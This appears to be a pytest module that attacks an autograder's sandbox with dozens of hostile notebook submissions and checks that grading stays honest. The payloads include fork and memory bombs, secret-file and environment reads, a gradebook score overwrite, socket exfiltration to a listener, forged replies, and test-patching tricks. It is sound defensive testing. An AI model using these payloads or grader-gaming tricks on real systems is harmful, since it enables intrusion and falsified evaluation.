"""Grading under attack and failure, through the real batch.

Every submission below is the real student notebook of chapter 2 (``chapters/02-convolution.ipynb``)
with the reference solutions (``solutions/02-convolution.md``) filled in, and then one exercise
replaced by an attack: a payload, usually with a known *wrong* answer from the bank, so that the
only honest outcome is exactly the wrong answer's score. All of them are graded in ONE run of
``python -m autograder grade`` on a course of their own (module scope), with short time limits
set through the environment, and each student's outcome is asserted from the results file, the
gradebook and the feedback page.
"""

from __future__ import annotations

import copy
import dataclasses
import hashlib
import json
import os
import re
import site
import socket
import subprocess
import sys
import sysconfig
import threading
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from conftest import ROOT, cli, solution_notebook, student_notebook, unmarked, with_cell
from nbgrader.api import Gradebook

from autograder import sandbox
from autograder.core import bank
from autograder.core import checks as check_registry
from autograder.course import directory as course_module
from autograder.grader.spec import read_spec
from autograder.grader.submission import submission_seed
from autograder.sandbox import policy

STEM = "02-convolution"
SPEC = read_spec(solution_notebook(STEM), STEM)
POINTS = {test.check_id.split(".", 1)[1]: test.points for test in SPEC.tests}
FULL = sum(POINTS.values())
LIMITS = {"AUTOGRADER_CALL_TIMEOUT": "3", "AUTOGRADER_RUN_TIMEOUT": "20", "AUTOGRADER_MEMORY_MB": "768"}


def _bank(check: str, name: str):
    return next(w for w in bank.load(STEM) if w.check_id == f"{STEM}.{check}" and w.name == name)


CEIL = _bank("conv_output_size", "ceil")  # 0.5 of 2 points
STRIDE = _bank("conv_forward_naive", "window not moved by the stride")  # 2 of 6 points
SIZE = "def conv_output_size(size, kernel, stride=1, padding=0):\n"
RIGHT_SIZE = "    return (size + 2 * padding - kernel) // stride + 1\n"
# the token of the request being served, read from the harness's frame (any code in the child can)
CURRENT_SEQ = ("    frame = sys._getframe(1)\n    while not isinstance(frame.f_locals.get('request'), dict):\n"
               "        frame = frame.f_back\n    seq = frame.f_locals['request']['seq']\n")


def _solutions(marked: bool = False) -> dict[str, str]:
    return {cell.metadata["nbgrader"]["grade_id"]: cell.source if marked else unmarked(cell.source)
            for cell in solution_notebook(STEM).cells if cell.metadata.get("nbgrader", {}).get("solution")}


SOLUTIONS = _solutions()


def filled(**replace: str) -> nbformat.NotebookNode:
    """The released student notebook with every exercise solved, except those given (function=source)."""
    notebook = student_notebook(STEM)
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if cell.metadata.get("nbgrader", {}).get("solution"):
            cell.source = replace.get(grade_id, SOLUTIONS[grade_id])
    return notebook


def _cell(notebook, grade_id):
    return next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _raw(notebook) -> bytes:
    return nbformat.writes(notebook).encode()


# ---------------------------------------------------------------------- the attacks


@dataclass
class Attack:
    student: str
    files: object  # (context) -> {file name: bytes}
    score: float
    status: str = "graded"  # or a substring of "failed: <reason>"
    target: str = ""  # the attacked exercise
    verdict: str = ""  # the target check's status ("passed", "failed", "error")
    message: str = ""  # a substring of the target check's message
    notes: list[str] = field(default_factory=list)  # substrings expected among the notes
    seconds: float = 300  # a generous bound on the submission's grading time (slow paths take hours)


def _source_file(ctx) -> Path:
    return ctx["course"] / "source" / STEM / f"{STEM}.ipynb"


def _copied_checksum(ctx):
    """The right answer, in a cell that carries the checksum of the source's solution cell."""
    source = read_spec(nbformat.read(_source_file(ctx), as_version=4), STEM)
    notebook = filled()
    notebook.cells[_cell(notebook, "conv_output_size")].metadata["nbgrader"]["checksum"] = \
        source.source_checksums["conv_output_size"]
    return notebook


def _slow_regexes(ctx):
    """Text on which the grader's old scans of cells were quadratic (minutes to hours): a test cell of
    unclosed hidden-test markers after a long run of blanks, and a cell of blank lines."""
    notebook = filled()
    notebook.cells[_cell(notebook, "test_conv_output_size")].source = \
        " " * 200_000 + "### BEGIN HIDDEN TESTS " * 20_000
    notebook.cells.append(nbformat.v4.new_code_cell("\n" * 200_000 + " " * 200_000 + "check(" * 10_000))
    return notebook


def _prefilled_outputs(ctx):
    notebook = filled()
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="FORGED: all checks passed\n"),
                            nbformat.v4.new_output("display_data", data={"text/html": "<script>FORGED()</script>"})]
    return notebook


def _visible_table(ctx):
    """conv_single_step answered from a table of the visible cases' answers (what check() shows)."""
    check = check_registry.get(f"{STEM}.conv_single_step")
    table = {case.args[0].tobytes().hex() + case.args[1].tobytes().hex(): float(check.expected(case))
             for group in check.groups if group.visible for case in check.cases(group, None)}
    return filled(conv_single_step=f"TABLE = {table!r}\ndef conv_single_step(x_slice, w, b):\n"
                                   "    return TABLE[x_slice.tobytes().hex() + w.tobytes().hex()]\n")


def _size_table_source() -> str:
    """conv_output_size answered from a table of the visible cases' answers, keyed by the whole call (sizes
    and settings only: no float array for a re-draw to move), computed as check() in Jupyter sees them."""
    check = check_registry.get(f"{STEM}.conv_output_size")
    table = {(*case.args, case.kwargs.get("stride", 1), case.kwargs.get("padding", 0)): check.expected(case)
             for group in check.groups if group.visible for case in check.cases(group, None)}
    return f"TABLE = {table!r}\n" + SIZE + "    return TABLE[size, kernel, stride, padding]\n"


def _visible_size_table(ctx):
    return filled(conv_output_size=_size_table_source())


def _other_package_dirs() -> list[str]:
    """Package directories of other Python environments than the sandbox's (the base installation's,
    the system's), and the venv's own forbidden package under its real path (the venv may be a link)."""
    import scipy

    minor = sys.version_info.minor
    found = {sysconfig.get_paths(vars={"base": sys.base_prefix, "platbase": sys.base_prefix})["purelib"],
             "/usr/lib/python3/dist-packages", f"/usr/local/lib/python3.{minor}/dist-packages",
             f"/usr/lib/python3.{minor}/site-packages"}
    own = {os.path.realpath(path) for path in site.getsitepackages()}
    signal = Path(scipy.__file__).parent / "signal"
    return sorted({path for path in found if os.path.realpath(path) not in own}
                  | {str(signal), os.path.realpath(signal)})


def _lists_other_environments(ctx):
    """conv_output_size reports which other package directories it can list (none, in the namespace modes)."""
    return filled(conv_output_size=(
        f"import os\nOTHERS = {_other_package_dirs()!r}\n" + SIZE + "    seen = []\n    for path in OTHERS:\n"
        "        try:\n            if os.listdir(path):\n                seen.append(path)\n"
        "        except OSError:\n            pass\n    raise RuntimeError('SITE:' + (';'.join(seen) or 'none'))\n"))


def _imports_another_copy(ctx):
    """conv_forward_im2col uses scipy.signal from another environment's site-packages (or the venv's under
    its real path), with the importer's guard removed and every name it left in sys.modules deleted."""
    others = [os.path.dirname(os.path.dirname(path)) if path.endswith("/signal") else path
              for path in _other_package_dirs()]
    return filled(conv_forward_im2col=(
        f"import sys\nsys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != 'ForbiddenImports']\n"
        f"sys.path[:0] = {others!r}\ntry:\n    import scipy.signal as _signal\nexcept ImportError:\n"
        "    _signal = None\nfor _name in [m for m in sys.modules if m.startswith('scipy')]:\n"
        "    del sys.modules[_name]\n" + SOLUTIONS["conv_forward_im2col"]
        + "\n_right = conv_forward_im2col\ndef conv_forward_im2col(x, w, b, stride=1, padding=0):\n"
        "    _signal.correlate(np.ones(1), np.ones(1))\n    return _right(x, w, b, stride, padding)\n"))


def _slow_cells_crashing_calls(ctx):
    """A slow cell (5 s at the top level) and functions that all kill their process: every call restarts the
    sandbox, which runs the cells again. The notebook's time budget bounds the whole."""
    crash = {name: f"import os\ndef {name}(*args, **kwargs):\n    os._exit(1)\n" for name in SPEC.solutions}
    first = SPEC.solutions[0]
    crash[first] = "import time\ntime.sleep(5)\n" + crash[first]
    return filled(**crash)


# the notebook's time budget with the batch's limits: its cells once, plus every check's limit
BUDGET = float(LIMITS["AUTOGRADER_RUN_TIMEOUT"]) + float(LIMITS["AUTOGRADER_CALL_TIMEOUT"]) * len(SPEC.tests)


def one(notebook_or_factory):
    def files(ctx):
        notebook = notebook_or_factory(ctx) if callable(notebook_or_factory) else notebook_or_factory
        return {f"{STEM}.ipynb": _raw(notebook)}
    return files


def secrets(ctx) -> list[str]:
    course = ctx["course"]
    return [str(course / "source" / STEM / f"{STEM}.ipynb"), str(course / "release" / STEM / f"{STEM}.ipynb"),
            str(course / "gradebook.db"), str(course / ".autograder" / "seed"),
            str(course / "submitted" / "honest-solution" / STEM / f"{STEM}.ipynb"),
            str(ROOT / "solutions" / f"{STEM}.md"), str(ROOT / "autograder" / "core" / "checks" / "ch02_convolution.py"),
            str(ROOT / "autograder" / "core" / "reference" / "ops.py")]


def _edits_tests(ctx):
    notebook = filled()
    notebook.cells[_cell(notebook, "test_conv_output_size")].source = "assert True"
    del notebook.cells[_cell(notebook, "test_zero_pad")]
    index = _cell(notebook, "test_im2col")
    notebook.cells.insert(index + 1, copy.deepcopy(notebook.cells[index]))
    notebook.cells[index + 1]["id"] = "copy-of-test"
    return notebook


def _duplicated_solution(ctx):
    notebook = filled(conv_output_size=CEIL.source)
    index = _cell(notebook, "conv_output_size")
    right, stub = copy.deepcopy(notebook.cells[index]), copy.deepcopy(student_notebook(STEM).cells[index])
    right.source, right["id"], stub["id"] = SOLUTIONS["conv_output_size"], "right", "stub"
    notebook.cells[index + 1:index + 1] = [right, stub]
    return notebook


def _renamed_grade_id(ctx):
    notebook = filled()
    notebook.cells[_cell(notebook, "conv_output_size")].metadata["nbgrader"]["grade_id"] = "my_answer"
    return notebook


def _helper_outside(ctx):
    notebook = filled(conv_output_size=SIZE + "    return _size_helper(size, kernel, stride, padding)\n")
    helper = nbformat.v4.new_code_cell("def _size_helper(size, kernel, stride, padding):\n" + RIGHT_SIZE)
    notebook.cells.insert(_cell(notebook, "conv_output_size"), helper)
    return notebook


def _test_cell_true(ctx):
    notebook = student_notebook(STEM)
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and meta["grade_id"] != "conv_output_size":
            cell.source = SOLUTIONS[meta["grade_id"]]
    notebook.cells[_cell(notebook, "test_conv_output_size")].source = "True"
    return notebook


def _other_assignment(ctx):
    return student_notebook("03-feature-detectors")


def attacks() -> list[Attack]:
    size, naive = POINTS["conv_output_size"], POINTS["conv_forward_naive"]
    ceil = FULL - size + CEIL.score
    return [
        # honest references
        Attack("honest-solution", one(filled()), FULL),
        Attack("honest-blank", one(student_notebook(STEM)), 0, target="conv_output_size", verdict="error",
               message="not implemented"),
        Attack("honest-wrong-ceil", one(filled(conv_output_size=CEIL.source)), ceil, target="conv_output_size",
               verdict="failed"),
        Attack("honest-wrong-stride", one(filled(conv_forward_naive=STRIDE.source)), FULL - naive + STRIDE.score,
               target="conv_forward_naive", verdict="failed"),
        # time
        Attack("loop-forever", one(filled(conv_output_size=SIZE + "    while True:\n        pass\n")),
               FULL - size, target="conv_output_size", verdict="error", message="time limit of 3 s"),
        Attack("loop-ignoring-signals", one(filled(conv_output_size=(
            "import signal\nfor s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):\n"
            "    signal.signal(s, signal.SIG_IGN)\n" + SIZE
            + "    while True:\n        try:\n            pass\n        except BaseException:\n            pass\n"))),
               FULL - size, target="conv_output_size", verdict="error", message="time limit"),
        Attack("sleeps", one(filled(conv_output_size="import time\n" + SIZE + "    time.sleep(10**6)\n")),
               FULL - size, target="conv_output_size", verdict="error", message="time limit"),
        Attack("loop-at-top-level", one(filled(conv_output_size="while True:\n    pass\n" + SOLUTIONS["conv_output_size"])),
               0, target="conv_single_step", verdict="error", message="did not finish within 20 s"),
        # resources
        Attack("memory-bomb", one(filled(conv_output_size=SIZE + (
            # bytes(n) is calloc'd: the address space fills up (the limit) without the time it takes to
            # write every page, so the MemoryError comes within the time limit even on a busy machine
            "    blocks = []\n    while True:\n        blocks.append(bytes(50_000_000))\n"))),
               FULL - size, target="conv_output_size", verdict="error", message="MemoryError"),
        Attack("fork-bomb", one(filled(conv_output_size=(
            "import os, time\nif os.fork() == 0:  # a daemon meant to outlive grading\n    os.setsid()\n"
            "    if os.fork() == 0:\n        time.sleep(3600)\n    os._exit(0)\n" + SIZE
            + "    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass\n"))),
               FULL - size, target="conv_output_size", verdict="error", message="time limit"),
        Attack("prints-100mb", one(filled(conv_output_size=(
            "import sys\nfor _ in range(100):\n    print('x' * 1_000_000)\nsys.stderr.write('y' * 1_000_000)\n"
            + SIZE + "    print('z' * 1_000_000)\n" + RIGHT_SIZE))), FULL),
        Attack("warns-on-stderr", one(filled(conv_output_size=(
            "import os, sys, warnings\n" + SIZE + "    warnings.warn('old API', DeprecationWarning)\n"
            "    warnings.warn('careful', RuntimeWarning)\n    print('to stderr', file=sys.stderr)\n"
            "    os.write(2, b'raw bytes on fd 2\\n')\n" + RIGHT_SIZE))), FULL, target="conv_output_size",
               verdict="passed"),
        Attack("fills-the-disk", one(filled(conv_output_size=(
            "import os\n" + SIZE + "    errors = []\n    try:\n        with open('big', 'wb') as f:\n"
            "            f.write(b'x' * 20_000_000)\n    except OSError as error:\n"
            "        errors.append(error.strerror)\n    try:\n        for i in range(10):\n"
            "            with open(f'part{i}', 'wb') as f:\n                f.write(b'x' * 10_000_000)\n"
            "    except OSError as error:\n        errors.append(error.strerror)\n"
            "    raise RuntimeError('DISK:' + ';'.join(errors))\n"))),
               FULL - size, target="conv_output_size", verdict="error", message="DISK:File too large"),
        # dying
        Attack("os-exit", one(filled(conv_output_size="import os\n" + SIZE + "    os._exit(0)\n")), FULL - size,
               target="conv_output_size", verdict="error", message="exited"),
        Attack("sys-exit", one(filled(conv_output_size="import sys\n" + SIZE + "    sys.exit(0)\n")), FULL - size,
               target="conv_output_size", verdict="error", message="SystemExit"),
        Attack("segfault", one(filled(conv_output_size="import ctypes\n" + SIZE + "    return ctypes.string_at(0)\n")),
               FULL - size, target="conv_output_size", verdict="error", message="segmentation fault"),
        # the kernel
        Attack("patches-numpy", one(filled(conv_output_size=(
            "import numpy as np, numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
            "numpy.testing.assert_array_equal = lambda *a, **k: None\nnp.allclose = lambda *a, **k: True\n"
            "np.isclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n" + CEIL.source))),
               ceil, target="conv_output_size", verdict="failed"),
        Attack("patches-torch-testing", one(filled(conv_output_size=(
            "try:\n    import torch, torch.testing\n    torch.testing.assert_close = lambda *a, **k: None\n"
            "    torch.allclose = lambda *a, **k: True\nexcept ImportError:\n    pass\n" + CEIL.source))),
               ceil, target="conv_output_size", verdict="failed"),
        Attack("input-transformer", one(filled(conv_output_size=(
            "def _blank_tests(lines):\n    return [] if any('check(' in line for line in lines) else lines\n"
            "get_ipython().input_transformers_cleanup.append(_blank_tests)\n"
            "get_ipython().input_transformers_post.append(lambda lines: lines + ['\\nTrue\\n'])\n" + CEIL.source))),
               ceil, target="conv_output_size", verdict="failed"),
        Attack("custom-exception-handler", one(filled(conv_output_size=(
            "get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)\n"
            + CEIL.source))), ceil, target="conv_output_size", verdict="failed"),
        Attack("showtraceback-override", one(filled(conv_output_size=(
            "import sys\nget_ipython().showtraceback = lambda *a, **k: None\n"
            "get_ipython().showsyntaxerror = lambda *a, **k: None\nsys.excepthook = lambda *a: None\n"
            + CEIL.source))), ceil, target="conv_output_size", verdict="failed"),
        Attack("ends-in-true", one(filled(conv_output_size=CEIL.source + "\nTrue\n")), ceil,
               target="conv_output_size", verdict="failed"),
        Attack("test-cell-edited-to-true", one(_test_cell_true), FULL - size, target="conv_output_size",
               verdict="error", notes=["test_conv_output_size was edited"]),
        # the file system, the network, the environment
        Attack("reads-secrets", one(lambda ctx: filled(conv_output_size=(
            f"SECRETS = {secrets(ctx)!r}\n" + SIZE + "    found = []\n    for path in SECRETS:\n        try:\n"
            "            with open(path, 'rb') as handle:\n                handle.read(16)\n"
            "            found.append(path)\n        except OSError:\n            pass\n    try:\n"
            "        import autograder.reference\n        found.append('autograder')\n    except ImportError:\n"
            "        pass\n    raise RuntimeError('READ:' + (';'.join(found) or 'nothing'))\n"))),
               FULL - size, target="conv_output_size", verdict="error", message="READ:"),
        Attack("writes-gradebook", one(lambda ctx: filled(conv_output_size=(
            f"COURSE = {str(ctx['course'])!r}\nSTEM = {STEM!r}\n"
            "def _vandalise():\n    import sqlite3\n    try:\n"
            "        db = sqlite3.connect(COURSE + '/gradebook.db')\n"
            "        db.execute('UPDATE grade SET auto_score = 100')\n        db.commit()\n    except Exception:\n"
            "        pass\n    for path in (f'{COURSE}/submitted/honest-solution/{STEM}/{STEM}.ipynb',\n"
            "                 f'{COURSE}/source/{STEM}/{STEM}.ipynb', f'{COURSE}/.autograder/seed'):\n"
            "        try:\n            with open(path, 'w') as handle:\n                handle.write('{}')\n"
            "        except OSError:\n            pass\n_vandalise()\n" + CEIL.source))),
               ceil, target="conv_output_size", verdict="failed"),
        Attack("opens-sockets", one(lambda ctx: filled(conv_output_size=(
            f"PORT = {ctx['port']}\n"
            "def _leak():\n    import socket\n    try:\n"
            "        with socket.create_connection(('127.0.0.1', PORT), timeout=1) as s:\n"
            "            s.sendall(b'LEAKED')\n    except OSError:\n        pass\n    try:\n"
            "        import urllib.request\n        urllib.request.urlopen('http://example.com', timeout=1)\n"
            "    except Exception:\n        pass\n_leak()\n" + CEIL.source.replace("    return", "    _leak()\n    return")))),
               ceil, target="conv_output_size", verdict="failed"),
        Attack("reads-environment", one(filled(conv_output_size=(
            "import os\n" + SIZE + "    raise RuntimeError('ENV:' + repr(sorted(os.environ.items())))\n"))),
               FULL - size, target="conv_output_size", verdict="error", message="ENV:"),
        # the results pipe: every request carries a fresh random token that its replies repeat, so lines that
        # guess it (here every sequence number and index) are skipped: the forger is graded on what it returns
        Attack("forges-replies", one(filled(conv_output_size=(
            "import json, os, sys\n" + SIZE + "    lines = ''.join(json.dumps({'seq': n, 'index': i, 'ok': True, "
            "'value': 0, 'forbidden_used': []}) + '\\n' for n in range(1, 100) for i in range(30))\n"
            "    os.write(int(sys.argv[1]), lines.encode())\n" + RIGHT_SIZE))),
               FULL, target="conv_output_size", verdict="passed"),
        # ... and code that reads the token of the request being served (from the harness's frame) can answer
        # only that request: what it forges is judged as its return value would be, and nothing else changes
        Attack("forges-current-replies", one(filled(conv_output_size=(
            "import json, os, sys\n" + SIZE + CURRENT_SEQ + "    lines = ''.join(json.dumps({'seq': seq, 'index': i, 'ok': True, 'value': 0, "
            "'forbidden_used': []}) + '\\n' for i in range(40))\n"
            "    os.write(int(sys.argv[1]), lines.encode())\n" + RIGHT_SIZE))),
               FULL - POINTS["conv_output_size"], target="conv_output_size", verdict="failed"),
        # values
        Attack("returns-nan", one(filled(conv_single_step="def conv_single_step(x_slice, w, b):\n    return float('nan')\n")),
               FULL - POINTS["conv_single_step"], target="conv_single_step", verdict="failed"),
        Attack("returns-inf", one(filled(zero_pad=(
            "def zero_pad(x, pad):\n    n, c, h, w = x.shape\n    return np.full((n, c, h + 2 * pad, w + 2 * pad), np.inf)\n"))),
               FULL - POINTS["zero_pad"], target="zero_pad", verdict="failed"),
        Attack("wrong-dtype", one(filled(zero_pad=(
            "def zero_pad(x, pad):\n    return np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad))).astype(np.int64)\n"))),
               FULL - POINTS["zero_pad"], target="zero_pad", verdict="failed", message="groups failed"),
        Attack("wrong-shape", one(filled(conv_forward_naive=(
            "def conv_forward_naive(x, w, b, stride=1, padding=0):\n"
            "    return np.zeros((x.shape[0], w.shape[0], 1, 1))\n"))),
               FULL - naive, target="conv_forward_naive", verdict="failed"),
        Attack("always-equal", one(filled(
            conv_output_size=("class Yes(int):\n    def __eq__(self, other):\n        return True\n"
                              "    def __ne__(self, other):\n        return False\n    __hash__ = int.__hash__\n"
                              + SIZE + "    return Yes(0)\n"),
            zero_pad=("class Same(np.ndarray):\n    def __eq__(self, other):\n        return True\n"
                      "def zero_pad(x, pad):\n    return np.zeros(1).view(Same)\n"))),
               FULL - size - POINTS["zero_pad"], target="conv_output_size", verdict="error", message="cannot be graded"),
        Attack("forbidden-torch", one(filled(conv_forward_im2col=(
            "import sys\nimport torch\nimport torch.nn.functional as F\n"
            "def conv_forward_im2col(x, w, b, stride=1, padding=0):\n"
            "    return F.conv2d(torch.from_numpy(x), torch.from_numpy(w), torch.from_numpy(b), stride=stride,\n"
            "                    padding=padding).numpy()\n"
            "for name in [m for m in sys.modules if m.startswith('torch')]:\n    del sys.modules[name]\n"))),
               FULL - POINTS["conv_forward_im2col"], target="conv_forward_im2col", verdict="error", message="torch"),
        # slow cells and calls that crash: restarts come out of the notebook's one time budget (item 7)
        Attack("slow-cells-crashing-calls", one(_slow_cells_crashing_calls), 0,
               target=SPEC.tests[-1].check_id.split(".", 1)[1], verdict="error", message="time budget",
               seconds=BUDGET + 30),
        # another Python environment's copy of a forbidden library (issue 14, item 2): hidden in the
        # namespace modes, and found by the files it loaded wherever the import worked
        Attack("lists-other-environments", one(_lists_other_environments), FULL - size, target="conv_output_size",
               verdict="error", message="SITE:"),
        Attack("imports-another-copy", one(_imports_another_copy), FULL - POINTS["conv_forward_im2col"],
               target="conv_forward_im2col", verdict="error"),
        # the notebook itself
        Attack("edits-tests", one(_edits_tests), FULL,
               notes=["test_conv_output_size was edited", "test_zero_pad was deleted", "test_im2col appears 2 times"]),
        Attack("duplicates-exercise", one(_duplicated_solution), FULL, target="conv_output_size", verdict="passed",
               notes=["3 cells are marked as the exercise cell conv_output_size"]),
        Attack("renamed-grade-id", one(_renamed_grade_id), FULL, notes=["conv_output_size had lost its grade id"]),
        Attack("helper-outside", one(_helper_outside), FULL - size, target="conv_output_size", verdict="error",
               message="NameError", notes=["_size_helper, which is defined only in a cell the grader does not run"]),
        Attack("corrupt-file", lambda ctx: {f"{STEM}.ipynb": _raw(filled())[:5000]}, 0, status="not valid JSON"),
        Attack("empty-file", lambda ctx: {f"{STEM}.ipynb": b""}, 0, status="empty file"),
        Attack("empty-notebook", one(nbformat.v4.new_notebook()), 0, status="is empty"),
        Attack("other-assignment", one(_other_assignment), 0, status="another assignment (03-feature-detectors)"),
        Attack("renamed-notebook", lambda ctx: {"my convolution.ipynb": _raw(filled()),
                                                "scratch.ipynb": _raw(student_notebook(STEM))}, FULL,
               notes=["my convolution.ipynb is that notebook under another name",
                      "scratch.ipynb is not part of this assignment and was not graded"]),
        Attack("no-notebook", lambda ctx: {"notes.txt": b"I could not finish, sorry"}, 0,
               status=f"missing notebook {STEM}.ipynb"),
        # round two (issue 14): the instructor's files, linked or copied
        Attack("links-the-source", lambda ctx: {f"{STEM}.ipynb": ("symlink", _source_file(ctx))}, 0,
               status="symbolic link"),
        Attack("hard-links-the-source", lambda ctx: {f"{STEM}.ipynb": ("hardlink", _source_file(ctx))}, 0,
               status="hard link"),
        Attack("copies-the-source", lambda ctx: {f"{STEM}.ipynb": _source_file(ctx).read_bytes()}, 0,
               target="conv_output_size", verdict="error", message="instructor's",
               notes=["byte-for-byte copy of the instructor's source notebook"]),
        Attack("solution-markers", one(filled(conv_output_size=_solutions(marked=True)["conv_output_size"])),
               FULL - size, target="conv_output_size", verdict="error", message="BEGIN SOLUTION",
               notes=["Flagged: 1 exercise cell(s) hold the instructor's own code (conv_output_size)"]),
        Attack("copied-checksum", one(_copied_checksum), FULL - size, target="conv_output_size", verdict="error",
               message="checksum of the instructor's solution cell", notes=["Flagged"]),
        # leaks across regrades, tables of answers
        Attack("hidden-exception-leak", one(filled(conv_output_size=(
            SIZE + "    raise ValueError(f'LEAK {size} {kernel} {stride} {padding} ' * 500)\n"))),
               FULL - size, target="conv_output_size", verdict="error", message="LEAK "),
        Attack("visible-table", one(_visible_table), FULL - POINTS["conv_single_step"], target="conv_single_step",
               verdict="error", message="KeyError"),
        Attack("visible-size-table", one(_visible_size_table), FULL - POINTS["conv_output_size"],
               target="conv_output_size", verdict="error", message="KeyError"),
        # values and replies the grader cannot take, code its parser cannot take, slow paths
        Attack("huge-int", one(filled(conv_output_size=SIZE + "    return 2 ** 70\n")), FULL - size,
               target="conv_output_size", verdict="error", message="more than 64 bits"),
        Attack("long-string", one(filled(conv_output_size=SIZE + "    return 'should be ' * 10_000\n")),
               FULL - size, target="conv_output_size", verdict="error", message="characters"),
        Attack("deep-json-reply", one(filled(conv_output_size=(  # with the request's token, so that it is parsed
            "import os, sys\n" + SIZE + CURRENT_SEQ + "    os.write(int(sys.argv[1]), b'{\"seq\": \"' + seq.encode() + "
            "b'\", \"index\": 0, \"ok\": ' + b'[' * 200_000 + b']' * 200_000 + b'}\\n')\n"
            + RIGHT_SIZE))), FULL - size, target="conv_output_size", verdict="error", message="nested too deeply"),
        Attack("parser-bomb", one(filled(conv_output_size="x = " + "+".join(["1"] * 200_000) + "\n"
                                         + SOLUTIONS["conv_output_size"])),
               # the grader reads it (pre-flight) without a crash; the sandbox's child exits when its own
               # compiler gives up, so no cell runs: like a loop at the top level, the notebook scores 0
               0, target="conv_single_step", verdict="error", message="running the notebook's cells failed"),
        Attack("slow-regexes", one(_slow_regexes), FULL, notes=["test_conv_output_size was edited"]),
        # what formgrader and the terminal show
        Attack("prefilled-outputs", one(_prefilled_outputs), FULL),
        Attack("=1+2\x1b[2Jescapes", one(filled()), FULL),
        Attack("longdouble", one(filled(
            conv_single_step="def conv_single_step(x_slice, w, b):\n    return np.longdouble(np.sum(x_slice * w) + b)\n",
            zero_pad="def zero_pad(x, pad):\n"
                     "    return np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad))).astype(np.longdouble)\n")),
               FULL, target="conv_single_step", verdict="passed"),
        Attack("nested-user-namespace", one(filled(conv_output_size=(
            "import ctypes\n" + SIZE + "    libc = ctypes.CDLL(None, use_errno=True)\n"
            "    made = libc.unshare(0x10000000)\n    raise RuntimeError(f'USERNS:{made}')\n"))),
               FULL - size, target="conv_output_size", verdict="error", message="USERNS:"),
    ]


ATTACKS = attacks()


# ---------------------------------------------------------------------- one batch for all of them


class Listener:
    """A TCP server on 127.0.0.1 that records every connection the graded code manages to make."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stopped.is_set():
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    self.received.append(connection.recv(100) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def stop(self):
        self.stopped.set()
        self.thread.join()
        self.server.close()


def _sandbox_processes(uids: set[int]) -> list[str]:
    """Processes running under one of these sandbox user ids (nothing may outlive its sandbox), described."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/status") as status:
                    fields = dict(line.split(":", 1) for line in status if ":" in line)
                with open(f"/proc/{entry}/cmdline", "rb") as cmdline:
                    command = cmdline.read()[:80].replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if int(fields["Uid"].split()[0]) in uids:
                found.append(f"{entry} {fields['State'].strip()} ppid {fields['PPid'].strip()} "
                             f"nspid {fields.get('NSpid', '').strip()} {command}")
    return found


@dataclass
class Graded:
    course: Path
    run: subprocess.CompletedProcess
    results: dict[str, dict]
    received: list[bytes]
    hashes_before: dict[str, str]
    hashes_after: dict[str, str]
    leftovers: list[int]
    isolation: sandbox.Isolation


def _hashes(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> Graded:
    course = tmp_path_factory.mktemp("attack-course")
    made = cli("init", str(course), "--assignment", STEM)
    assert made.returncode == 0, made.stdout + made.stderr
    listener = Listener()
    context = {"course": course, "port": listener.port}
    for attack in ATTACKS:
        folder = course / "submitted" / attack.student / STEM
        folder.mkdir(parents=True)
        for name, data in attack.files(context).items():
            if isinstance(data, tuple):  # ("symlink" or "hardlink", the file it names)
                (folder / name).symlink_to(data[1]) if data[0] == "symlink" else os.link(data[1], folder / name)
            else:
                (folder / name).write_bytes(data)
    before = _hashes(course / "submitted") | {"source": _hashes(course / "source")["02-convolution/02-convolution.ipynb"],
                                               "seed": hashlib.sha256((course / ".autograder" / "seed").read_bytes()).hexdigest()}
    env = {name: value for name, value in os.environ.items() if not name.startswith("AUTOGRADER_")} | LIMITS
    command = [sys.executable, "-m", "autograder", "grade", STEM, "--course", str(course)]
    try:
        with subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True) as process:
            stdout, stderr = process.communicate(timeout=600)
        run = subprocess.CompletedProcess(command, process.returncode, stdout, stderr)
    finally:
        listener.stop()
    after = _hashes(course / "submitted") | {"source": _hashes(course / "source")["02-convolution/02-convolution.ipynb"],
                                              "seed": hashlib.sha256((course / ".autograder" / "seed").read_bytes()).hexdigest()}
    results = {}
    for path in (course / ".autograder" / "results" / STEM).glob("*.json"):
        data = json.loads(path.read_text())
        results[data["student"]] = data
    with pytest.MonkeyPatch.context() as patch:  # what the batch saw, with the batch's limits
        for name, value in LIMITS.items():
            patch.setenv(name, value)
        found = sandbox.isolation()
        found = dataclasses.replace(found, gaps=policy._gaps(found.mode, sandbox.Limits()))
    # sandbox user ids are UID_BASE + 8 * (grading process id) + slot: only this batch's processes count
    # (other graders may be running on the machine)
    graders = {process.pid} | {int(str(data.get("worker", "")).rpartition(":")[2] or 0) for data in results.values()}
    uids = {sandbox.UID_BASE + (pid % 2**22) * 8 + slot for pid in graders for slot in range(8)}
    return Graded(course, run, results, listener.received, before, after, _sandbox_processes(uids), found)


